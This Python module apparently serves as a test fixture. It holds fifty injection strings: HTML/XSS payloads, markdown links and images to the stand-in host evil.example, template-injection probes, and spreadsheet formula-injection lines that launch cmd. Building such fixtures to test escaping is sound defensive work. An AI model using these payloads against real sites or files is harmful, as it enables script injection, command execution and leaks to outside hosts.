"""Fifty texts that try to run, to load something, or to be taken for a formula."""

from __future__ import annotations

OUTSIDE = "evil.example"
RAN = "window.__ran=1"

HTML = (
    f"<script>{RAN}</script>",
    f"<script src=//{OUTSIDE}/a.js></script>",
    f"<img src=x onerror={RAN}>",
    f'<img src="https://{OUTSIDE}/pixel.png">',
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<iframe src=javascript:{RAN}></iframe>",
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    f'<a href="javascript:{RAN}" autofocus onfocus={RAN}>win</a>',
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<video><source onerror={RAN}></video>",
    f"<math><mtext></mtext><img src=x onerror={RAN}></math>",
    f"</title><script>{RAN}</script>",
    f"</textarea><img src=x onerror={RAN}>",
    f"--><script>{RAN}</script><!--",
    f"<style>@import 'https://{OUTSIDE}/a.css';</style>",
    f'<link rel=stylesheet href="https://{OUTSIDE}/b.css">',
    f'<meta http-equiv=refresh content="0;url=https://{OUTSIDE}">',
    f'<form action="https://{OUTSIDE}"><button autofocus>Sign in</button></form>',
    f'<object data="https://{OUTSIDE}/x.swf"></object>',
    f"<div style=\"background:url('https://{OUTSIDE}/bg.png');position:fixed;inset:0\">x</div>",
    f'"><img src=x onerror={RAN}>',
    f"' onmouseover='{RAN}",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<IMG SRC=`javascript:{RAN}`>",
)
MARKDOWN = (
    f"![x](https://{OUTSIDE}/image.png)",
    f"[click](https://{OUTSIDE}/)",
    f"[click](javascript:{RAN})",
    f"<https://{OUTSIDE}/auto>",
    f"https://{OUTSIDE}/bare",
    f"www.{OUTSIDE}",
    f"[ref]: https://{OUTSIDE}/ref [ref]",
    f"![][p]\n\n[p]: https://{OUTSIDE}/reference.png",
    "# Heading **bold** `code` ~~gone~~",
    ":red[danger] :material/warning: :streamlit: :smile:",
    r"$\href{javascript:alert(1)}{x}$ $$\frac{1}{2}$$",
    "| a | b |\n|---|---|\n| 1 | 2 |",
)
TEMPLATES = ("{{7*191}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{% raw %}{0.__class__}")
FORMULAS = (
    "=1+1",
    f'=HYPERLINK("https://{OUTSIDE}","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)
PAYLOADS: tuple[str, ...] = (*HTML, *MARKDOWN, *TEMPLATES, *FORMULAS)
